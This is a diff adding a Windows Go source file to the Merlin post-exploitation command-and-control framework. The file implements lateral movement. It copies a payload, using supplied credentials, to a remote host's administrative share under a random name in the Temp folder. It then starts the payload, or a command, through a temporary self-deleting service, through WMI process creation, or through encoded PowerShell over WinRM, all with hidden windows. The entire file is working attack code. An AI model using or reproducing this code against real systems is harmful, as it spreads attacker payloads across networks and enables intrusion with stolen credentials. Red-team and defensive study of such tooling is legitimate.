@@ -0,0 +1,170 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"os/exec"
+	"runtime"
+	"strings"
+	"syscall"
+	"unicode/utf16"
+
+	// Sub Repositories
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/svc/mgr"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// move copies the payload to a remote host's administrative share and starts it, or runs the command on the remote
+// host, with a service (psexec), WMI (wmiexec), WinRM (winrm), or ssh
+func move(m messages.Move, payload []byte) (string, error) {
+	if m.Method == "ssh" {
+		return moveSSH(m, payload)
+	}
+	user := m.User
+	if m.Domain != "" {
+		user = m.Domain + `\` + m.User
+	}
+	var out []string
+	command := m.Command
+	if len(payload) > 0 {
+		path := m.Path
+		if path == "" {
+			path = `C:\Windows\Temp\` + strings.ToLower(core.RandStringBytesMaskImprSrc(8)) + ".exe"
+		}
+		if err := copyToShare(m.Host, user, m.Secret, path, payload); err != nil {
+			return "", err
+		}
+		out = append(out, fmt.Sprintf("Copied the %d byte payload to %s on %s as %s", len(payload), path, m.Host, user))
+		command = fmt.Sprintf(`start "" %s`, syscall.EscapeArg(path))
+	}
+	var result string
+	var err error
+	switch m.Method {
+	case "psexec":
+		result, err = movePsExec(m.Host, user, m.Secret, command)
+	case "wmiexec":
+		result, err = moveWMI(m.Host, user, m.Secret, command)
+	case "winrm":
+		result, err = moveWinRM(m.Host, user, m.Secret, command)
+	default:
+		err = fmt.Errorf("%s is not a valid move method", m.Method)
+	}
+	if err != nil {
+		return strings.Join(out, "\r\n"), err
+	}
+	return strings.Join(append(out, result), "\r\n"), nil
+}
+
+// copyToShare writes the payload to the path, such as C:\Windows\Temp\a.exe, through the remote host's administrative
+// share for its drive, such as \\host\C$, authenticating with the credentials
+func copyToShare(host, user, password, path string, payload []byte) error {
+	if len(path) < 3 || path[1] != ':' || path[2] != '\\' {
+		return fmt.Errorf("%s is not an absolute path on a drive of the remote host", path)
+	}
+	unc := fmt.Sprintf(`\\%s\%c$%s`, host, path[0], path[2:])
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	revert, err := impersonate(user, password)
+	if err != nil {
+		return err
+	}
+	defer revert()
+	if err = ioutil.WriteFile(unc, payload, 0700); err != nil {
+		return fmt.Errorf("there was an error copying the payload to %s:\r\n%s", unc, err.Error())
+	}
+	return nil
+}
+
+// movePsExec creates a temporary service on the remote host that runs the command with cmd.exe, starts it, and
+// deletes it. The command is not a service, so the service control manager reports that it did not start in time.
+func movePsExec(host, user, password, command string) (string, error) {
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+	revert, err := impersonate(user, password)
+	if err != nil {
+		return "", err
+	}
+	defer revert()
+	scm, err := mgr.ConnectRemote(host)
+	if err != nil {
+		return "", fmt.Errorf("there was an error connecting to the service control manager on %s:\r\n%s", host, err.Error())
+	}
+	defer scm.Disconnect()
+	name := core.RandStringBytesMaskImprSrc(8)
+	service, err := scm.CreateService(name, `C:\Windows\System32\cmd.exe`, mgr.Config{StartType: mgr.StartManual},
+		"/c", command)
+	if err != nil {
+		return "", fmt.Errorf("there was an error creating a service on %s:\r\n%s", host, err.Error())
+	}
+	defer service.Close()
+	errStart := service.Start()
+	if err = service.Delete(); err != nil {
+		return "", fmt.Errorf("there was an error deleting the %s service on %s:\r\n%s", name, host, err.Error())
+	}
+	if errStart != nil && errStart != windows.ERROR_SERVICE_REQUEST_TIMEOUT {
+		return "", fmt.Errorf("there was an error starting the %s service on %s:\r\n%s", name, host, errStart.Error())
+	}
+	return fmt.Sprintf("Started and deleted the %s service on %s", name, host), nil
+}
+
+// moveWMI creates a process on the remote host that runs the command with cmd.exe through WMI
+func moveWMI(host, user, password, command string) (string, error) {
+	return runHidden("wmic.exe", "/node:"+host, "/user:"+user, "/password:"+password, "process", "call", "create",
+		`cmd.exe /c `+command)
+}
+
+// moveWinRM runs the command with cmd.exe on the remote host through WinRM. The process is created with WMI in the
+// remote session so it is not stopped when the session ends.
+func moveWinRM(host, user, password, command string) (string, error) {
+	quote := func(s string) string { return "'" + strings.Replace(s, "'", "''", -1) + "'" }
+	script := fmt.Sprintf("$c = New-Object System.Management.Automation.PSCredential(%s, (ConvertTo-SecureString %s "+
+		"-AsPlainText -Force)); Invoke-Command -ComputerName %s -Credential $c -ScriptBlock { param($l) "+
+		"$r = Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $l; "+
+		"\"Created process $($r.ProcessId) on $env:COMPUTERNAME with return value $($r.ReturnValue)\" } "+
+		"-ArgumentList %s", quote(user), quote(password), quote(host), quote("cmd.exe /c "+command))
+	// The script is encoded so the credential and command do not need to be quoted for the command line
+	var encoded bytes.Buffer
+	for _, r := range utf16.Encode([]rune(script)) {
+		encoded.WriteByte(byte(r))
+		encoded.WriteByte(byte(r >> 8))
+	}
+	return runHidden("powershell.exe", "-NoProfile", "-NonInteractive", "-EncodedCommand",
+		base64.StdEncoding.EncodeToString(encoded.Bytes()))
+}
+
+// runHidden runs a program without a window and returns its output
+func runHidden(name string, args ...string) (string, error) {
+	cmd := exec.Command(name, args...) // #nosec G204
+	cmd.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		return "", fmt.Errorf("there was an error running %s:\r\n%s %s", name, err.Error(), bytes.TrimSpace(out))
+	}
+	return string(bytes.TrimSpace(out)), nil
+}